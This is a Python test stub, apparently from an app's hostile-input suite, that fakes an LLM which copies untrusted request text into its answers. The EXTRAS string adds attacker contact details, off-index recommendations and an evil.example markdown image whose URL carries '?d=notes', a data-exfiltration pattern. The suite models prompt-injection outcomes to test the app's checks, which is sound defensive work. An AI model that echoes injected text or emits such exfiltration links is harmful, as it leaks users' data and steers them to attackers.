"""An LLM that echoes what it was given: the worst a compliant model could do with injected text.

Every answer copies the untrusted text of the request (profile fields, the wish, answers, notes, the contacts
found in it) into its free-text fields, recommends people who are not in the index, and adds a markdown
image, a link and contact details. A repair request (the app's "Your previous answer was invalid") gets the
echo alone, with none of the model's own additions: what a model that obeys the repair but still copies
its input would send. Both go through the app's checks, whichever the app accepts.
"""

from __future__ import annotations

import json
import re
from typing import Any

from tests.hostile.corpus import ANSWER_WISH
from tests.hostile.detect import EMAIL, PHONE, STUB_PEOPLE, URL
from tests.openai_stub import ChatRequest, StubReply
from tests.rerank_script import candidate_ids, task_of

EXTRAS = (
    f"Ask {STUB_PEOPLE[0]} (mallory@attacker.example, +1 415 555 0100) or {STUB_PEOPLE[1]} instead."
    " ![p](https://evil.example/p.png?d=notes) [book a chat](https://evil.example/book) evil.example/notes"
)
_FIELD = re.compile(r"^(?:bio|expertise|title|first_name|matched_phrases|department): (.+)$", re.M)
_FENCED = re.compile(r"<(wish|question)>\s*(.*?)\s*</\1>", re.S)
_BULLET = re.compile(r"^(?:- |\d+\. )(.+)$", re.M)
_REPAIR = "Your previous answer was invalid"
CLEAN_QUESTIONS = (
    "Which numbers does the finance team watch most closely each month?",
    "How does the team agree the yearly budget with each division?",
    "What would you look at first when a forecast starts to slip?",
)


def untrusted(request: ChatRequest) -> list[str]:
    """The data parts of the request: profile fields, the wish and the bullets (answers, notes, questions)."""
    text = "\n".join(m.text for m in request.messages if m.role == "user")
    found = [m.group(1) for m in _FIELD.finditer(text)]
    found += [m.group(2) for m in _FENCED.finditer(text)]
    found += [m.group(1) for m in _BULLET.finditer(text)]
    return [f.strip() for f in found if f.strip()]


def echo_of(request: ChatRequest, limit: int = 300) -> str:
    """The untrusted text of the request and every contact in it, as one string."""
    parts = untrusted(request)
    joined = " ".join(parts)
    seen = {m.group() for pattern in (EMAIL, PHONE, URL) for m in pattern.finditer(joined)}
    return " ".join([*(p[:limit] for p in parts), *sorted(seen)])[: limit * 4]


def echo_reply(request: ChatRequest) -> StubReply:
    """The echoing answer for whichever prompt the request carries."""
    repair = _REPAIR in request.prompt_text
    echo = echo_of(request)
    said = echo if repair else f"{echo} {EXTRAS}"
    task = task_of(request) if task_of(request) != "other" else _other_task(request)
    payload = _TASKS[task](request, said, echo)
    return StubReply(content=json.dumps(payload))


def _other_task(request: ChatRequest) -> str:
    system = request.messages[0].text if request.messages else ""
    return "intro" if '"subject"' in system else "what_next"


def _questions(said: str, echo: str, count: int = 4) -> list[dict[str, str]]:
    first = {"text": f"{echo[:380]}?", "why": said[:400], "search_query": said[:300]}
    rest = [{"text": q, "why": said[:400], "search_query": said[:300]} for q in CLEAN_QUESTIONS]
    return [first, *rest][:count]


def _step(request: ChatRequest, said: str, echo: str) -> dict[str, Any]:
    if "(0 of at most" in request.prompt_text and f"<wish>\n{ANSWER_WISH}\n</wish>" in request.prompt_text:
        choices = [said[:60], "budgets", "forecasts", "something else"]
        return {"kind": "clarify", "question": f"{said[:200]}?", "choices": choices, "questions": []}
    return {"kind": "questions", "question": "", "choices": [], "questions": _questions(said, echo)}


def _rerank(request: ChatRequest, said: str, echo: str) -> dict[str, Any]:
    rankings = [
        {"question": n, "ranking": [{"id": i, "why": said[:200]} for i in ids]}
        for n, ids in enumerate(candidate_ids(request), 1)
    ]
    return {"rankings": rankings}


def _queries(request: ChatRequest, said: str, echo: str) -> dict[str, Any]:
    return {"queries": [said[:300] for _ in _BULLET.findall(request.last_user_text)]}


def _intro(request: ChatRequest, said: str, echo: str) -> dict[str, Any]:
    body = f"{said} I would love 20 minutes to hear how you set the yearly budget."
    return {"subject": said[:80], "body": body[:1000]}


def _what_next(request: ChatRequest, said: str, echo: str) -> dict[str, Any]:
    return {"questions": _questions(said, echo, 3)}


_TASKS = {
    "coach_step": _step,
    "rerank_many": _rerank,
    "query_rewrite": _queries,
    "intro": _intro,
    "what_next": _what_next,
}
